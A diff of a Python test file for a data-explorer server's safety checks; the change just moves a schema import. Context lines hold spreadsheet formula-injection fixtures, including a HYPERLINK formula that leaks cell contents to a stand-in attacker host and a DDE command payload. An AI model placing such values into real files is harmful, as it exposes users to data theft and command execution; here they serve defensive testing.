@@ -12,6 +12,8 @@ import pyarrow.parquet as pq
 import pytest
 from explore_run import write_run
 
+from runfolder.schema import TAGS_SCHEMA
+
 HOSTILE_IDS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "=cmd|' /C calc'!A0",
@@ -30,7 +32,6 @@ HOSTILE_IDS = [
 def server(tmp_path_factory):
     from infra.explore.query import Explorer
     from infra.explore.server import ExplorerServer
-    from pipelines import tag
 
     root = tmp_path_factory.mktemp("explore_safety") / "it's a run"  # a quote in every path DuckDB could see
     write_run(root, tracks=6)
@@ -46,7 +47,7 @@ def server(tmp_path_factory):
         }
         for i, track_id in enumerate(HOSTILE_IDS)
     ]
-    pq.write_table(pyarrow.Table.from_pylist(rows, schema=tag.TAGS_SCHEMA), root / "tags" / "run-2-hostile.parquet")
+    pq.write_table(pyarrow.Table.from_pylist(rows, schema=TAGS_SCHEMA), root / "tags" / "run-2-hostile.parquet")
     explorer = Explorer.open([str(root)])
     httpd = ExplorerServer(explorer, "127.0.0.1", 0, quiet=True)
     httpd.start()
